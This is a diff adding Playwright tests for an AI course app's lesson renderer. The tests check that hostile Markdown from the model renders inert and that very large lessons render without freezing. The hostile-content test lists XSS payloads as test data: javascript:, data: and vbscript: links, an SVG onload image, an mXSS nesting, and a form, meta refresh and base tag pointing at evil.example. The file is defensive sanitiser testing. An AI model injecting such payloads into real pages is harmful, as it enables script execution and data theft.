@@ -1,0 +1,219 @@
+// Untrusted model output in Chromium, the parts test/e2e/flows/untrusted-content.spec.ts
+// (script tags, event handlers, javascript: links, remote images, CSS injection) does not
+// cover: data:/vbscript:/encoded links, <base>/<meta refresh>/<form>/<object> and other
+// page-level tags, then size — a 200 KB single-line lesson from the model and a 1 MB
+// lesson saved in the editor must render without freezing the page. The figures go to
+// test-results/soak/untrusted-output.json for the reliability soak (part 7).
+import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
+import { dirname, resolve } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, test } from './fixtures';
+import { seedCourse } from './flows/seed';
+
+const FIGURES = resolve(import.meta.dirname, '../../test-results/soak/untrusted-output.json');
+const LOCAL = /^(https?|wss?):\/\/127\.0\.0\.1:\d+\//;
+
+function saveFigures(figures: Record<string, number | string | boolean>): void {
+  mkdirSync(dirname(FIGURES), { recursive: true });
+  const previous = existsSync(FIGURES) ? (JSON.parse(readFileSync(FIGURES, 'utf8')) as Record<string, unknown>) : {};
+  writeFileSync(FIGURES, `${JSON.stringify({ ...previous, ...figures, at: new Date().toISOString() }, null, 2)}\n`);
+}
+
+/** Dialogs, requests leaving 127.0.0.1, and navigations away from the app, as they happen. */
+function watch(page: Page) {
+  const seen = { dialogs: [] as string[], outside: [] as string[], frames: [] as string[] };
+  page.on('dialog', (dialog) => {
+    seen.dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!LOCAL.test(url) && !/^(data|blob):/.test(url)) seen.outside.push(url);
+  });
+  page.on('framenavigated', (frame) => {
+    if (!LOCAL.test(frame.url())) seen.frames.push(frame.url());
+  });
+  return seen;
+}
+
+/** Main-thread tasks over 50 ms, recorded from the first script of every page load. */
+async function recordLongTasks(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const w = window as unknown as { __longTasks: number[] };
+    w.__longTasks = [];
+    new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push(e.duration))).observe({ type: 'longtask', buffered: true });
+  });
+}
+
+const longTasks = (page: Page) => page.evaluate(() => (window as unknown as { __longTasks: number[] }).__longTasks.splice(0));
+
+/** How long a zero-delay timer takes to fire: the page's answer time to anything. */
+const timerLag = (page: Page) => page.evaluate(() => new Promise<number>((r) => ((t) => setTimeout(() => r(performance.now() - t), 0))(performance.now())));
+
+const HOSTILE_EXTRA = [
+  '# Links that are not web links',
+  '[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[data js](data:text/javascript,alert(1))',
+  '[vb](vbscript:msgbox(1))',
+  '[encoded](jav&#x61;script:alert(1))',
+  '[spaced]( javascript:alert(1) )',
+  '[upper](JAVASCRIPT:alert(1))',
+  '[ref link][evil]',
+  '<javascript:alert(1)>',
+  '[titled](https://example.com/ok "onmouseover=alert(1)")',
+  '![svg data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
+  '![tracker](https://tracker.example/pixel.gif)',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/steal"><input name="q" value="x"><button>Send</button></form>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+  '<style>@import url("https://evil.example/i.css");</style>',
+  '<!-- <script>alert("comment")</script> -->',
+  '<details open ontoggle="alert(\'toggle\')"><summary>s</summary></details>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
+  '```html\n<script>alert("in code")</script>\n```',
+  'Text after everything stays readable.',
+  '',
+  '[evil]: javascript:alert("ref")',
+].join('\n\n');
+
+test('links, embeds and page-level tags in model output render inert', async ({ app, control }) => {
+  const seen = watch(app);
+  await control.fake.content({ tool: 'submit_lessons', set: { content: HOSTILE_EXTRA } });
+  const { courseId } = await seedCourse(control, 'Hostile links');
+  await control.waitIdle();
+  const [lesson] = await control.db<{ id: string }>(
+    'SELECT l.id FROM lessons l JOIN projects p ON p.id = l.project_id WHERE p.course_id = ? ORDER BY p.position, l.position LIMIT 1',
+    [courseId],
+  );
+  const origin = new URL(app.url()).origin;
+  const lessonUrl = `${origin}/#/courses/${courseId}?lesson=${lesson!.id}`;
+  await app.goto(lessonUrl);
+  const md = app.locator('.markdown');
+  await expect(md).toContainText('Text after everything stays readable.');
+  const baseBefore = await app.evaluate(() => document.baseURI);
+
+  const dom = await app.evaluate(() => {
+    const root = document.querySelector('.markdown')!;
+    return {
+      hrefs: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? ''),
+      pageTags: root.querySelectorAll('base, meta, form, input, button, link, object, embed, style, script, iframe, svg, math, details').length,
+      imgs: [...root.querySelectorAll('img')].map((i) => i.getAttribute('src') ?? ''),
+      handlers: [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
+      bases: document.querySelectorAll('base').length,
+      refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
+    };
+  });
+  expect(dom.hrefs.every((h) => /^(https?|mailto):/i.test(h)), `hrefs: ${dom.hrefs.join(' ')}`).toBe(true);
+  expect(dom.pageTags).toBe(0);
+  expect(dom.imgs).toEqual([]);
+  expect(dom.handlers).toEqual([]);
+  expect(dom).toMatchObject({ bases: 0, refresh: 0 });
+  // The code block shows the script as text.
+  await expect(md.locator('code')).toContainText('<script>alert("in code")</script>');
+
+  // Clicking every link keeps the window where it is.
+  for (const link of await md.locator('a').all()) await link.click();
+  for (const text of ['data html', 'data js', 'vb', 'encoded', 'spaced', 'upper', 'ref link']) {
+    const item = md.getByText(text, { exact: true });
+    if ((await item.count()) > 0) await item.first().click();
+  }
+  await app.waitForTimeout(500);
+  expect(app.url()).toBe(lessonUrl);
+  expect(await app.evaluate(() => document.baseURI)).toBe(baseBefore);
+  expect(seen.dialogs).toEqual([]);
+  expect(seen.outside).toEqual([]);
+  expect(seen.frames).toEqual([]);
+  // Only the titled https link may have been handed to the OS browser.
+  expect((await control.openedUrls()).every((u) => u === 'https://example.com/ok')).toBe(true);
+  saveFigures({ hostileVariants: HOSTILE_EXTRA.split('\n\n').length, dialogs: seen.dialogs.length, requestsOutside: seen.outside.length });
+});
+
+test('a 200 KB single-line lesson and a 1 MB lesson render without freezing the page', async ({ app, control }) => {
+  test.setTimeout(400_000);
+  const seen = watch(app);
+  // The longest lesson the model may return is 200,000 characters: one line of it, no newline.
+  const words = 'lorem ipsum dolor sit amet '.repeat(5_000);
+  const unbroken = 'x'.repeat(60_000);
+  const singleLine = `START ${words}${unbroken} END-OF-LINE`.slice(0, 199_000) + ' END-OF-LINE';
+  // Room for it in one answer (64,000 tokens is the Settings maximum), and two lessons per
+  // project so each answer carries one huge lesson and one short one.
+  await control.call('settings.update', { maxTokens: 64_000 });
+  await control.fake.content({
+    tool: 'submit_lessons',
+    input: { lessons: [{ title: 'Long line', content: singleLine, objectives: ['Scroll'] }, { title: 'Short', content: '# Short', objectives: ['Read'] }] },
+  });
+  const course = await control.call('courses.create', { topic: { topic: 'Huge lessons', projects: 3 } });
+  const [option] = await control.call('courses.generateOutlines', { courseId: course.id, count: 1 });
+  const outline = option!.outline;
+  const twoEach = { ...outline, projects: outline.projects.map((p) => ({ ...p, lessons: [p.lessons[0]!, p.lessons[1] ?? { title: 'Second', summary: '' }] })) };
+  await control.call('courses.chooseOption', { courseId: course.id, optionId: option!.id });
+  await control.call('courses.editOutline', { courseId: course.id, outline: twoEach });
+  await control.call('courses.approveOutline', { courseId: course.id, by: 'Soak', note: '' });
+  const job = await control.call('jobs.enqueue', { courseId: course.id });
+  await control.waitIdle();
+  const [status] = await control.db<{ status: string; error_message: string | null }>('SELECT status, error_message FROM jobs WHERE id = ?', [job.id]);
+  expect(status, 'the 200 KB lesson is generated and stored').toEqual({ status: 'completed', error_message: null });
+  const courseId = course.id;
+  const lessons = await control.db<{ id: string }>(
+    'SELECT l.id FROM lessons l JOIN projects p ON p.id = l.project_id WHERE p.course_id = ? ORDER BY p.position, l.position',
+    [courseId],
+  );
+  // 1 MB of ordinary Markdown (what the editor accepts): headings, lists, code, tables, links.
+  const block = (i: number) =>
+    `## Section ${i}\n\nSome **bold** and _italic_ text with a [link](https://example.com/${i}) and \`code\`.\n\n- item one\n- item two\n  - nested\n\n| a | b |\n| - | - |\n| ${i} | ${i * 2} |\n\n\`\`\`js\nconst x${i} = ${i};\n\`\`\`\n\n> quoted ${i}\n\n`;
+  let big = '# One megabyte\n\n';
+  for (let i = 0; big.length < 1_000_000 - 400; i++) big += block(i);
+  big = `${big.slice(0, 999_000)}\n\nEND-OF-LESSON\n`;
+  await control.call('lessons.update', { lessonId: lessons[1]!.id, title: 'One megabyte', content: big, objectives: ['Read it all'] });
+
+  await recordLongTasks(app);
+  const origin = new URL(app.url()).origin;
+  const figures: Record<string, number | boolean> = {};
+  for (const [name, lessonId, marker] of [
+    ['singleLine', lessons[0]!.id, 'END-OF-LINE'],
+    ['oneMegabyte', lessons[1]!.id, 'END-OF-LESSON'],
+  ] as const) {
+    // A full load (the query string changes), so the timing covers boot, fetch and render.
+    await app.goto(`${origin}/?load=${name}#/courses/${courseId}?lesson=${lessonId}`);
+    await expect(app.locator('.markdown')).toContainText(marker, { timeout: 60_000 });
+    const renderedMs = await app.evaluate(() => performance.now());
+    console.log(name, 'rendered', renderedMs, Date.now());
+    const tasksLoading = await longTasks(app);
+    const lagAfter = await timerLag(app);
+    // Scroll through it: the page must keep up.
+    await app.evaluate(async () => {
+      const el = document.scrollingElement!;
+      for (let y = 0; y <= el.scrollHeight; y += Math.max(400, el.scrollHeight / 40)) {
+        el.scrollTo(0, y);
+        await new Promise((r) => requestAnimationFrame(() => r(null)));
+      }
+    });
+    console.log(name, 'scrolled', Date.now());
+    const tasksScrolling = await longTasks(app);
+    console.log(name, 'tasks', JSON.stringify(tasksScrolling), JSON.stringify(tasksLoading), lagAfter, Date.now());
+    const overflow = await app.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+    // An interaction: leave the lesson for the course overview.
+    const clicked = Date.now();
+    await app.locator('.tree-overview').click();
+    await expect(app.locator('.markdown').filter({ hasText: marker })).toHaveCount(0);
+    const navigateMs = Date.now() - clicked;
+    figures[`${name}RenderedMs`] = Math.round(renderedMs);
+    figures[`${name}LongestTaskLoadingMs`] = Math.round(Math.max(0, ...tasksLoading));
+    figures[`${name}LongestTaskScrollingMs`] = Math.round(Math.max(0, ...tasksScrolling));
+    figures[`${name}TimerLagAfterMs`] = Math.round(lagAfter);
+    figures[`${name}NavigateAwayMs`] = navigateMs;
+    figures[`${name}HorizontalOverflowPx`] = overflow;
+
+    expect(renderedMs, `${name}: time to render`).toBeLessThan(15_000);
+    expect(lagAfter, `${name}: a timer fires promptly once rendered`).toBeLessThan(250);
+    expect(Math.max(0, ...tasksScrolling), `${name}: no long freeze while scrolling`).toBeLessThan(500);
+    expect(navigateMs, `${name}: leaving the lesson`).toBeLessThan(3_000);
+  }
+  // The single huge line wraps inside the page instead of widening it.
+  expect(figures.singleLineHorizontalOverflowPx, 'a 200 KB line must not widen the page').toBeLessThanOrEqual(0);
+  expect(seen.dialogs).toEqual([]);
+  expect(seen.outside).toEqual([]);
+  saveFigures(figures);
+});
